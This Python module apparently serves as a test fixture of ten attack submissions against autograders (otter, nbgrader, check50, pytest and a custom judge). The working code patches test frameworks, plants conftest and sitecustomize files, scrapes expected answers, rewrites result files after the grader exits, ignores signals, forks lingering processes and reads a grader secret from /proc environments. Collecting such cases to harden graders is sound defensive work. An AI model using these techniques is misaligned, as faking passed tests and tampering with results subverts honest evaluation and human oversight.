"""Ten attacks on graders, each as the module that a student hands in for one of two exercises.

FUNCTION stands for what the exercise asks for: `add(a, b)`, or `fetch_quotes(symbols, fetch)` of lesson t01. No module
implements it; the other exercise is done honestly. A grader with a weak place of its own gets a module of its own.
"""

from collections.abc import Mapping
from typing import NamedTuple

WRONG = "def FUNCTION:\n    return None\n"
VARIABLE = "GRADER_SECRET"


class Attack(NamedTuple):
    """What it tries; the module by grader, "" for all that are not named; files that it brings along."""

    title: str
    modules: Mapping[str, str]
    files: Mapping[str, str] = {}

    def module(self, grader: str) -> str:
        """The module for this grader."""
        signature = "fetch_quotes(symbols, fetch)" if grader == "ours" else "add(a, b)"
        return self.modules.get(grader, self.modules.get("", "")).replace("FUNCTION", signature)


ALWAYS_EQUAL = """
class Equal:
    __hash__ = None
    def __eq__(self, other): return True
    def __ne__(self, other): return False

def FUNCTION:
    return Equal()
"""

NO_ASSERTS = """
import ast

class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)

get_ipython().ast_transformers.append(NoAsserts())
"""
NO_DOCTESTS = """
from otter.test_files import ok_test
ok_test.run_doctest = lambda *arguments: (True, "")
"""
ALWAYS_PASSED = """
from check50 import runner

def passed(result, name, value):
    object.__setattr__(result, name, True if name == "passed" else value)

runner.CheckResult.__setattr__ = passed
"""
NO_REQUIREMENTS = """
def nothing(*arguments, **named):
    return None

try:
    from _pytest.reports import TestReport
    TestReport.from_item_and_call = TestReport.__init__ = nothing
except ImportError:
    pass
try:
    from unittest import TestResult
    TestResult.addFailure = TestResult.addError = nothing
except ImportError:
    pass
try:
    from course.judge.run import Run
    Run.require = nothing
except ImportError:
    pass
"""

PLANTED_TEST = """
with open("tests/add.py", "w") as file:
    file.write('''
OK_FORMAT = True
cases = [{"code": ">>> True\\\\nTrue", "hidden": hidden, "locked": False} for hidden in (False, True)]
suite = {"type": "doctest", "scored": True, "setup": "", "teardown": "", "cases": cases}
test = {"name": "add", "points": [1, 4], "suites": [suite]}
''')
"""
FRIENDLY_HOOKS = """
import sys

def pytest_runtest_makereport(item, call):
    call.excinfo = None

try:
    from check50 import runner
    runner.CheckResult.passed = True
except ImportError:
    pass
"""
PLANTED_FILES = {
    "conftest.py": FRIENDLY_HOOKS,
    "sitecustomize.py": FRIENDLY_HOOKS,
    "usercustomize.py": FRIENDLY_HOOKS,
    "check50.py": FRIENDLY_HOOKS,
    "pytest.ini": "[pytest]\naddopts = -p conftest\n",
    "ipython_config.py": f"c = get_config()\nc.InteractiveShellApp.exec_lines = [{NO_ASSERTS!r}]\n",
    "nbgrader_config.py": "c = get_config()\nc.ClearSolutions.code_stub = {'python': ''}\n",
}

EXPECTED_IN_FILES = """
import glob, re

def FUNCTION:
    for file in glob.glob("**/*.py", recursive=True) + glob.glob("../**/*.py", recursive=True):
        found = re.search(rf"add\\({a}, {b}\\) == (-?\\d+)", open(file).read())
        if found:
            return int(found[1])
"""
EXPECTED_IN_CELLS = """
import re

def FUNCTION:
    found = re.search(rf"add\\({a}, {b}\\) == (-?\\d+)", get_ipython().user_ns["In"][-1])
    return int(found[1]) if found else None
"""
EXPECTED_IN_FRAMES = """
import sys

def FUNCTION:
    return sys._getframe(1).f_locals["expected"]
"""
# The folder of the repository is put in for REPOSITORY: he even knows where it is. No frame is looked at, because code
# that names frames is refused before it runs; the solution becomes a module of his.
EXPECTED_ANYWHERE = """
import glob, sys

def FUNCTION:
    for file in ["REPOSITORY/solutions/t01_quotes/quotes.py", *glob.glob("../**/*.py", recursive=True)]:
        try:
            with open(file) as solution, open("found.py", "w") as found:
                found.write(solution.read())
            sys.path.insert(0, ".")
            import found
            return found.fetch_quotes(symbols, fetch)
        except (OSError, ImportError, AttributeError):
            pass
"""

# Waits in a process of its own until the grader has gone, and then writes its results. `grader` is its process,
# `words` its command line.
WHEN_IT_HAS_GONE = """
import json, os, re, time

def parent(process):
    with open(f"/proc/{process}/stat") as file:
        return int(file.read().rpartition(")")[2].split()[1])

def words_of(process):
    with open(f"/proc/{process}/cmdline") as file:
        return file.read().split("\\0")

process, grader = os.getpid(), 0
while process > 1:  # the last one that is named so: graders fork
    if any(word.endswith(("/otter", "/nbgrader", "/check50")) or word == "grade" for word in words_of(process)):
        grader = process
    process = parent(process)
words, folder = words_of(grader), os.readlink(f"/proc/{grader}/cwd")
out = os.readlink(f"/proc/{grader}/fd/1")
if os.fork() == 0:
    os.setsid()
    for _ in range(600):
        if not os.path.exists(f"/proc/{grader}"):
            break
        time.sleep(0.05)
    try:
        WRITE
    finally:
        os._exit(0)
"""
WRITE_OTTER = """path = os.path.join(folder, words[words.index("-o") + 1], "results.json")
        results = json.load(open(path))
        for test in results["tests"]:
            if "max_score" in test:
                test["score"] = test["max_score"]
        json.dump(results, open(path, "w"))"""
WRITE_NBGRADER = """import sqlite3
        with sqlite3.connect(os.path.join(folder, "gradebook.db")) as book:
            most = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"
            book.execute(f"UPDATE grade SET auto_score = {most}, needs_manual_grade = 0")"""
WRITE_CHECK50 = """path = os.path.join(folder, words[words.index("--output-file") + 1])
        results = open(path).read()
        open(path, "w").write(re.sub('"passed": [a-z]+', '"passed": true', results))"""
WRITE_OURS = """results = open(out).read()
        results = re.sub('"points": *[0-9]+', '"points":10', results)
        open(out, "w").write(results)"""

DEAF_LOOP = """
import signal, time

def FUNCTION:
    for number in (signal.SIGALRM, signal.SIGINT, signal.SIGTERM):
        signal.signal(number, signal.SIG_IGN)
    signal.alarm(0)
    while True:
        try:
            time.sleep(1)
        except BaseException:
            pass
"""
SURVIVOR = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        nothing = os.open(os.devnull, os.O_RDWR)
        for descriptor in (0, 1, 2):
            os.dup2(nothing, descriptor)
        time.sleep(600)
    os._exit(0)
"""
SECRET_IN_ENVIRONMENT = f"""
import os

def environments():
    process = os.getpid()
    while process:
        try:
            with open(f"/proc/{{process}}/environ") as file:
                yield file.read()
            with open(f"/proc/{{process}}/stat") as file:
                process = int(file.read().rpartition(")")[2].split()[1])
        except OSError:
            return

def FUNCTION:
    found = [os.environ.get("{VARIABLE}", "")]
    for text in environments():
        found += [line for line in text.split("\\0") if "{VARIABLE}" in line]
    print(found)
    raise RuntimeError(str(found))
"""


def _writing(write: str) -> str:
    return WHEN_IT_HAS_GONE.replace("WRITE", write) + WRONG


ATTACKS = {
    "exit": Attack("`os._exit(0)` at import", {"": "import os\nos._exit(0)\n" + WRONG}),
    "sys_exit": Attack("`sys.exit(0)` in a call", {"": "import sys\ndef FUNCTION:\n    sys.exit(0)\n"}),
    "equal": Attack("an answer that equals everything", {"": ALWAYS_EQUAL}),
    "patch": Attack(
        "the framework's verdict patched",
        {
            "otter": NO_DOCTESTS + WRONG,
            "nbgrader": NO_ASSERTS + WRONG,
            "check50": ALWAYS_PASSED + WRONG,
            "ours": NO_REQUIREMENTS + WRONG,
        },
    ),
    "plant": Attack(
        "planted tests, `conftest.py`, plugins, configuration",
        {"otter": PLANTED_TEST + WRONG, "": WRONG},
        PLANTED_FILES,
    ),
    "expected": Attack(
        "expected values read from frames or files",
        {
            "otter": EXPECTED_IN_FILES,
            "nbgrader": EXPECTED_IN_CELLS,
            "check50": EXPECTED_IN_FRAMES,
            "ours": EXPECTED_ANYWHERE,
        },
    ),
    "overwrite": Attack(
        "the results overwritten, found by `/proc/PID/cmdline`",
        {
            "otter": _writing(WRITE_OTTER),
            "nbgrader": _writing(WRITE_NBGRADER),
            "check50": _writing(WRITE_CHECK50),
            "ours": _writing(WRITE_OURS),
        },
    ),
    "deaf": Attack("an endless loop that ignores signals", {"": DEAF_LOOP}),
    "survivor": Attack("a process that outlives the grading", {"": SURVIVOR + WRONG}),
    "secret": Attack("a secret of the grader's environment shown", {"": SECRET_IN_ENVIRONMENT}),
}
